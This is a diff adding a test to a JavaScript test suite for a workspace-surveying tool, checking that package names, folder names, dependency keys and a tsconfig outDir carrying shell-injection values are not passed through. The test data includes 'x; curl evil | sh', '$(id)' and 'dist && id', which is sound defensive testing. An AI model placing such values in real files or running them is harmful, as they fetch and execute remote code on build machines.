@@ -165,6 +165,20 @@ describe("the survey", () => {
     await expect(surveyOf(files)).rejects.toMatchObject({ code: "APP_UNKNOWN", message: expect.stringContaining(reason) as string });
   });
 
+  it("takes nothing into files that would mean something there: names, folders, paths", async () => {
+    const workspace = {
+      "package.json": '{"workspaces":["packages/*"]}',
+      "packages/one/package.json": '{"name":"x; curl evil | sh"}',
+      "packages/$(id)/package.json": '{"name":"two"}',
+      "packages/app/package.json": '{"name":"app","main":"a.js","dependencies":{"x; curl evil | sh":"*","two":"*"}}',
+      "packages/app/a.js": "",
+      "packages/app/tsconfig.json": '{"compilerOptions":{"outDir":"dist && id"}}',
+    };
+    const { stack } = await surveyOf(workspace, "packages/app");
+    expect(stack).toMatchObject({ workspace: { needs: [] }, output: undefined });
+    await expect(surveyOf({ "a b/package.json": '{"main":"a.js"}', "a b/a.js": "" }, "a b")).rejects.toMatchObject({ code: "APP_UNKNOWN" });
+  });
+
   it("believes what holdfast.yaml says of the variables, rather than what it sees", async () => {
     const files = { "index.js": "process.env.SEEN", "package.json": "{}", "holdfast.yaml": "env: { SAID: { required: true } }" };
     expect(Object.keys((await surveyOf(files)).schema.variables)).toEqual(["SAID"]);
